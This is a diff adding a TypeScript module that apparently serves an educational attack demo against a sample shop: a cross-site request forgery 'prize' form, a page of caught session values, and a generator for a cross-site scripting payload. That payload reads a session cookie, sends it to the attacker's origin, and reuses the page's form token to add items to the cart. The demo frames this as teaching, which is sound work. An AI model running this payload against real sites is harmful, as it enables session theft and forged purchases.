@@ -1,0 +1,87 @@
+import type { AttackTexts } from './attack-texts.ts';
+
+/** What was caught, as pages may show it. */
+export interface ShownCatch {
+  /** The start of the stolen value; "" when a script came without one. */
+  readonly hint: string;
+}
+
+/** @param shop the shop's origin: the form's address is there. */
+export function prizePage(texts: AttackTexts, shop: string): string {
+  return page(
+    texts,
+    texts.prizeTitle,
+    `<p>${escapeHtml(texts.prizeText)}</p>
+<form method="post" action="${escapeHtml(shop)}/cart/add">
+<input type="hidden" name="product" value="juice"><input type="hidden" name="count" value="9">
+<button>${escapeHtml(texts.prizeButton)}</button>
+</form>`,
+  );
+}
+
+export function caughtPage(texts: AttackTexts, caught: readonly ShownCatch[]): string {
+  const lines = caught.map(({ hint }) =>
+    hint === '' ? `<li>${escapeHtml(texts.caughtEmpty)}</li>` : `<li><code>${escapeHtml(hint)}…</code></li>`,
+  );
+  const list = lines.length === 0 ? `<p>${escapeHtml(texts.caughtNothing)}</p>` : `<ol>${lines.join('')}</ol>`;
+  return page(texts, texts.caughtTitle, list);
+}
+
+export function attackHome(texts: AttackTexts): string {
+  const door = (path: string, title: string) => `<li><a href="${path}">${escapeHtml(title)}</a></li>`;
+  return page(
+    texts,
+    'attack',
+    `<p>${escapeHtml(texts.home)}</p><ul>${door('/prize', texts.prizeTitle)}${door('/caught', texts.caughtTitle)}</ul>`,
+  );
+}
+
+/**
+ * The script that a role of the article's form brings into the shop's page, when output is not escaped: it tells the person
+ * what it reads, sends that away, and fills the cart with the page's own form token.
+ *
+ * @param self the attacker's origin. @param cookieName the ticket's.
+ */
+export function prankScript(texts: AttackTexts, self: string, cookieName: string): string {
+  return `(async () => {
+  const pair = document.cookie.split('; ').find((one) => one.startsWith(${JSON.stringify(`${cookieName}=`)})) ?? '';
+  const ticket = pair.slice(pair.indexOf('=') + 1);
+  new Image().src = ${JSON.stringify(`${self}/take?ticket=`)} + encodeURIComponent(ticket);
+  const say = (text) => {
+    const line = document.createElement('p');
+    line.className = 'warning';
+    line.setAttribute('role', 'alert');
+    line.textContent = text;
+    document.querySelector('h1').after(line);
+  };
+  const shown = decodeURIComponent(ticket).replace(/^s:/, '').slice(0, 4) + '…';
+  say(ticket === '' ? ${JSON.stringify(texts.scriptReadsNothing)} : ${JSON.stringify(texts.scriptReads)}.replace('%s', shown));
+  const token = document.querySelector('input[name="_token"]')?.value ?? '';
+  const form = new URLSearchParams({ product: 'juice', count: '9', _token: token });
+  const answer = await fetch('/cart/add', { method: 'POST', body: form });
+  if (answer.ok) say(${JSON.stringify(texts.scriptActs)});
+})();
+`;
+}
+
+function page(texts: AttackTexts, title: string, content: string): string {
+  return `<!doctype html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
+<title>${escapeHtml(title)}</title><style>
+:root{color-scheme:light dark}
+body{margin:0;font:16px/1.5 system-ui,sans-serif}
+.label{margin:0;padding:10px 24px;background:#8d1b1f;color:#fff}
+main{padding:16px 24px;max-width:46rem}
+button{padding:10px 18px;font:inherit;font-weight:600}
+</style></head><body><p class="label">${escapeHtml(texts.label)}</p><main><h1>${escapeHtml(title)}</h1>${content}</main></body></html>`;
+}
+
+function escapeHtml(text: string): string {
+  const names: Readonly<Record<string, string>> = {
+    '&': '&amp;',
+    '<': '&lt;',
+    '>': '&gt;',
+    '"': '&quot;',
+    "'": '&#39;',
+  };
+  return text.replace(/[&<>"']/g, (sign) => names[sign] ?? sign);
+}
